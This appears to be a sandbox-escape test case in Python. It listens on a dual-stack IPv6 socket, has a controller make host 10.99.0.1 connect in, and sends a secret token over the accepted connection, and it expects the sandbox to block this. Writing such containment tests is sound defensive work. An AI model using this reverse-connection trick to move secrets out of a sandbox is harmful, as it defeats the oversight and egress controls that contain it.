#!/usr/bin/python3
# id: c15c_reverse_connection6
# title: as c15 on a socket that listens for both families
# needs: user
# expect: block
# why: the accepted socket is AF_INET6 with a mapped address
import sys, os; sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from bp import *
def f():
    l = socket.socket(socket.AF_INET6); l.setsockopt(41, 26, 0); l.bind(('::', 0)); l.listen(4); ctl(f'DIAL 10.99.0.1 {l.getsockname()[1]}'); l.settimeout(3); c, _ = l.accept(); c.sendall(TOK.encode() + b'\n'); time.sleep(.5)
attempt(f)
